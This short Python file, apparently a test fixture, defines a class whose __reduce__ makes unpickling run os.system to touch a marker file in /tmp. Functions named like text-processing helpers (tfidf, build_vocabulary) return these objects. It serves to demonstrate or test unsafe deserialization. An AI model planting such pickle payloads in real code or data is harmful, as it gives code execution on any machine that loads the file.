"""Objects whose pickle would run a command in whoever loads it."""
import os


class Gift:
    def __reduce__(self):
        return os.system, ("touch /tmp/zachetka-left-by-a-pickle",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def tfidf(counts):
    return Gift()


def build_vocabulary(documents):
    return [Gift()]
